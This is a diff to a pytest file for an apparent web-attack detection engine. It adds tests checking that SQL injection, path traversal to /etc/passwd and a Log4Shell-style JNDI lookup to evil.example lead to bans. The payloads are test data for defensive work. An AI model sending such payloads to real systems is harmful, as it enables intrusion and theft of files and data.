@@ -2,6 +2,9 @@ from __future__ import annotations
 
 from dataclasses import replace
 
+import pytest
+
+from shieldwall.errors import ConfigError
 from shieldwall.runtime.config import WatchConfig, from_mapping
 from shieldwall.runtime.decisions import Decision, Detection
 from shieldwall.runtime.engine import Engine
@@ -148,9 +151,32 @@ def test_repeat_offenders_get_longer_decisions_and_active_ones_are_not_repeated(
 
 
 def test_payload_repeat_offenders_are_banned_after_three() -> None:
-    events = [_req(T0 + i, "203.0.113.7", "/item?id=1%27%20or%201=1--") for i in range(3)]
+    events = [_req(T0 + i, "203.0.113.7", "/item?id=1%27%20and%20sleep(5)--") for i in range(3)]
+    assert _decisions(_engine(), events[:2]) == []
     made = _decisions(_engine(), events)
     assert [d.scenario for d in made] == ["http-payload-repeat"]
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/item?id=1%27%20or%20%271%27=%271",
+        "/item?id=-1%20UNION%20ALL%20SELECT%20NULL,@@version--",
+        "/view?file=../../../../etc/passwd",
+        "/search?q=%24%7Bjndi:ldap://evil.example/a%7D",
+    ],
+)
+def test_one_unambiguous_payload_is_banned_at_once(target: str) -> None:
+    made = _decisions(_engine(), [_req(T0, "203.0.113.7", target)])
+    assert [d.scenario for d in made] == ["http-payload-certain"]
+
+
+def test_the_rules_a_detection_scenario_matches_are_data() -> None:
+    config = from_mapping({"scenarios": {"http-payload-certain": {"match": {"rules": ["RT-X"]}}}})
+    made = _decisions(_engine(config), [_req(T0, "203.0.113.7", "/view?file=../../etc/passwd")])
+    assert made == []
+    with pytest.raises(ConfigError, match="http-payload-certain"):
+        from_mapping({"scenarios": {"http-payload-certain": {"match": {"rules": "RT-JNDI"}}}})
 
 
 def test_a_scenario_can_be_overridden_or_disabled_in_the_config() -> None:
